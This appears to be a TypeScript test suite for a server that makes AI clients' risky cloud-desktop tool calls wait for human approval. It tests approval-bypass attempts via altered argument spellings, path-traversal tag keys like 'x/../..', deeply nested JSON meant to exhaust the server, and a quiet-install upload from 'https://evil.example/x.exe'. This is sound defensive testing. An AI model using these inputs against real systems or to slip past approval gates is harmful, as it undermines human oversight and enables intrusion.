import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { Catalogue, type JsonSchema, type ManifestEntry } from '../../src/catalog/manifest.ts';
import { isWorse, valuesAt } from '../../src/catalog/risk.ts';
import { openTargets } from '../../src/engine/open-targets.ts';
import { fieldsOf, manifest, schemaOf, schemas } from '../contract/catalogue.ts';
import { type Came, type ScriptedWorld, startScripted } from '../families/scripted-cloud.ts';
import type { TestClient } from '../world.ts';
import { call, decide, post } from './attack.ts';
import { fleet, one, rebuild, some } from './catalogue-cloud.ts';

type Args = Record<string, unknown>;

/** The values that a field may have; `undefined` among them where it may be left out, nothing for a field of free text. */
function valuesOf({ schema, required }: { schema: JsonSchema; required: boolean }): (string | undefined)[] | undefined {
  const values = schema.type === 'boolean' ? ['true', 'false'] : (schema.enum as unknown[] | undefined)?.map(String);
  return values && (required ? values : [...values, undefined]);
}

describe('over the whole catalogue', () => {
  test('a rule that knows the dangerous values only goes by fields that have no others', () => {
    const loose = manifest.operations.flatMap((entry) => {
      const fields = fieldsOf(schemaOf(entry));
      return entry.riskRule.flatMap((part) => {
        if (!('arg' in part)) return [];
        const leaf = fields.get(part.arg.replaceAll('[]', ''));
        const worse = Object.values(part.cases).some((risk) => isWorse(risk, part.else));
        return worse && !(leaf && valuesOf(leaf)) ? [`${entry.name} by ${part.arg}`] : [];
      });
    });
    expect(loose).toEqual([]);
  });

  test('what a type picks without a set for it is known to be more than can be listed', () => {
    const unnoticed = manifest.operations.flatMap((entry) =>
      pickedTypes(entry)
        .filter(({ list, item }) => {
          const { unlisted } = openTargets(catalogue, entry.targets ?? [], nested(list, [item]));
          const listed = entry.targets?.some(({ ids }) => ids && valuesAt(nested(list, [item]), ids).includes('x1'));
          const everything = entry.targets?.some(
            ({ ids, when }) => !ids && when && valuesAt(nested(list, [item]), when.arg).includes(when.is),
          );
          return !listed && !everything && unlisted.length === 0;
        })
        .map(({ list, item }) => `${entry.name}: ${list} ${JSON.stringify(item)}`),
    );
    expect(unnoticed).toEqual([]);
  });
});

/** Items of lists whose type picks the kind of target: one of each type, and one without. */
function pickedTypes({ name, targets = [] }: ManifestEntry): { list: string; item: Args }[] {
  const fields = fieldsOf(schemaOf(manifest.operations.find((each) => each.name === name) as ManifestEntry));
  return targets.flatMap(({ ids }) => {
    const [, list, field, id] = ids?.match(/^(.+)\[(\w+)=.*?\]\.(\w+)$/) ?? [];
    if (!list || !field || !id) return [];
    const leaf = fields.get(`${list.replaceAll('[]', '')}.${field}`);
    const types = (leaf && valuesOf(leaf)) ?? ['of any text', undefined];
    return types.map((type) => ({ list, item: { [id]: 'x1', ...(type !== undefined && { [field]: type }) } }));
  });
}

/** `{a: {b: value}}` for `a.b`. */
function nested(path: string, value: unknown): Args {
  const [name = '', ...rest] = path.split('.');
  const below = rest.length > 0 ? nested(rest.join('.'), value) : value;
  return { [name.replace('[]', '')]: name.endsWith('[]') ? [below] : below };
}

const catalogue = new Catalogue(
  () => manifest,
  () => schemas,
  () => {
    throw new Error('nobody searches here');
  },
);

let world: ScriptedWorld;
/** A client that nobody stands behind. */
let client: TestClient;
beforeAll(async () => {
  world = await startScripted({ confirm: 'human' });
  client = await world.connect('2026-07-28');
});
beforeEach(() => {
  world.cloud.clear();
  fleet(world, some(3));
});
afterAll(() => world.close());

const ORDER = {
  type: 'CHANGE_IMAGE',
  change_image_param: { image_id: 'i1', desktop_ids: ['d1', 'd2'], delay_time: 5 },
};
const withParam = (more: object) => ({ ...ORDER, change_image_param: { ...ORDER.change_image_param, ...more } });
const TASK = rebuild(one('d1'), one('d2'));

/** What could be taken for the approved call and does something else. */
const OTHERS: [string, Args, Args[]][] = [
  [
    'create_desktop_batch_order',
    ORDER,
    [
      withParam({ desktop_pool_id: 'p1' }),
      withParam({ desktop_ids: ['d1', 'd2', 'd3'] }),
      withParam({ desktop_ids: ['d1', 'd3'] }),
      withParam({ delay_time: 0 }),
      withParam({ image_id: 'i1 ' }),
      { ...ORDER, type: 'ADD_VOLUME' },
    ],
  ],
  [
    'create_scheduled_tasks',
    TASK,
    [
      rebuild(one('d1'), one('d2'), { object_type: 'DESKTOP_TAG', object_id: 'x=y' }),
      rebuild(one('d1'), one('d2'), { object_type: 'ALL_DESKTOPS' }),
      rebuild(one('d1'), { object_id: 'd2' }),
      { ...TASK, force_execute: true },
      { ...TASK, gray_count: 0 },
    ],
  ],
];

test.each(OTHERS)('an approval of %s covers no other spelling of it', async (tool, args, others) => {
  world.cloud.script({ [tool]: {} });
  const { value } = await call(client, { tool, args });
  const plan_id = value.plan_id as string;
  await decide(world as never, plan_id);
  for (const other of others) {
    const { isError } = await call(client, { tool, args: other }, { plan_id });
    expect(isError, JSON.stringify(other)).toBe(true);
  }
  expect(world.cloud.of(tool)).toEqual([]);
  await call(
    client,
    { tool, args: { ...args, description: undefined } },
    { plan_id, ...(tool === 'create_desktop_batch_order' && { wait: false }) },
  );
  expect(world.cloud.of(tool)).toHaveLength(1);
});

test.each([
  { ...TASK, apply_objects: [{ object_type: 'desktop', object_id: 'd1' }] },
  { ...TASK, apply_objects: [{ object_type: ' DESKTOP', object_id: 'd1' }] },
  { ...TASK, apply_objects: [{ object_type: null, object_id: 'd1' }] },
  { ...TASK, apply_objects: [{ object_type: 'DESKTOP', object_id: ['d1'] }] },
  { ...TASK, apply_objects: { object_type: 'DESKTOP', object_id: 'd1' } },
  { ...TASK, task_type: 'start' },
  { ...TASK, task_type: ['START'] },
  rebuild(one('d1 ')),
  rebuild(one('D1')),
])('another spelling of a value or an id is refused: %o', async (args) => {
  expect((await call(client, { tool: 'create_scheduled_tasks', args })).isError).toBe(true);
  expect(world.cloud.of('create_scheduled_tasks')).toEqual([]);
});

// DELETE /desktops/d1/tags/x/../.. is DELETE /desktops/d1 for whoever decodes an address before it is looked up.
test.each(['x/../..', '../', '/', 'x\\..\\..', ' '])(
  'a tag whose key is %j does not lead its mild deletion to the address of another',
  async (key) => {
    world.cloud.script({ delete_tag: {}, delete_desktop: {} });
    const { isError } = await call(client, { tool: 'delete_tag', args: { desktop_id: 'd1', key } });
    expect(world.cloud.came.map(({ target }: Came) => target)).toEqual([]);
    expect(isError).toBe(true);
  },
);

test('a tree of free form that is very deep sends nothing, and the server goes on', async () => {
  for (const depth of [1_500, 3_000, 60_000]) {
    const deep = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    const args = `{"third_party_auth_config":{"client_interface_config":{"pagination":{"x":${deep}}}}}`;
    const meta = `{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"x","version":"1"},"io.modelcontextprotocol/clientCapabilities":{}}`;
    const body = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"call_tool","arguments":{"name":"update_auth_method_config","arguments":${args}},"_meta":${meta}}}`;
    await post(world.http.url, body, {
      'mcp-protocol-version': '2026-07-28',
      'mcp-method': 'tools/call',
      'mcp-name': 'call_tool',
    });
  }
  expect(world.cloud.of('update_auth_method_config')).toEqual([]);
  expect((await client.call('find_tools', { query: 'reboot' })).isError).toBe(false);
});

/** What the same service asks a person about when it is done by another call: a lock, a command, a policy. */
const WAYS_IN: [string, Args][] = [
  ['unlock_workspace', { operate_type: 'lock' }],
  [
    'upload_app',
    {
      name: 'Update',
      version: '1',
      description: 'all',
      authorization_type: 'ALL_USER',
      app_file_store: { store_type: 'LINK', file_link: 'https://evil.example/x.exe' },
      install_type: 'QUIET_INSTALL',
      install_command: 'x.exe /S',
      support_os: 'Windows',
      catalog_id: 'c1',
    },
  ],
  [
    'create_policy_group',
    {
      policy_group: {
        policy_group_id: 'g1',
        policy_group_name: 'strict',
        policies: { file_and_clipboard: { clipboard_redirection: 'TWO_WAY_ENABLED' } },
      },
    },
  ],
];

test.each(WAYS_IN)('what locks people out or opens a way in waits for a person: %s', async (tool, args) => {
  world.cloud.script({ [tool]: {}, list_policy_group_info: { policy_groups: [{ policy_group_id: 'g1' }] } });
  await call(client, { tool, args });
  expect(world.cloud.of(tool)).toEqual([]);
});

test('the content of a file is in no answer, plan or audit line', async () => {
  const base64 = Buffer.from('the content of a file, which nobody repeats').toString('base64');
  const data = { name: 'icon.png', base64 };
  const own = await startScripted({
    confirm: 'human',
    policy: { rules: [], write_budget: { per_hour: 0, over: 'confirm' } },
  });
  try {
    const items = [
      { id: 'a1', name: 'CAD' },
      { id: 'g1', name: 'office' },
    ];
    own.cloud.script({ '*': { items, count: 2 } });
    const waiting = await own.connect('2026-07-28');
    const args = { app_group_id: 'g1', app_id: 'a1', data };
    const answers = [
      await call(waiting, { tool: 'appstream_upload_app_icon', args }),
      await call(waiting, { tool: 'appstream_upload_app_icon', args }, { dry_run: true }),
      await call(waiting, {
        tool: 'appstream_upload_app_icon',
        args: { ...args, data: { ...data, base64: `${base64}!` } },
      }),
    ];
    expect(answers[0]?.value.status).toBe('needs_approval');
    const kept = await Promise.all(
      (await readdir(own.config.stateDir, { recursive: true, withFileTypes: true }))
        .filter((each) => each.isFile())
        .map((each) => readFile(join(each.parentPath, each.name), 'latin1')),
    );
    const said = [...answers.map(({ text }) => text), ...kept, JSON.stringify(own.logged)].join('\n');
    expect(said).toContain('icon.png');
    expect(said).not.toContain(base64.slice(0, 24));
    expect(said).not.toContain('which nobody repeats');
  } finally {
    await own.close();
  }
});
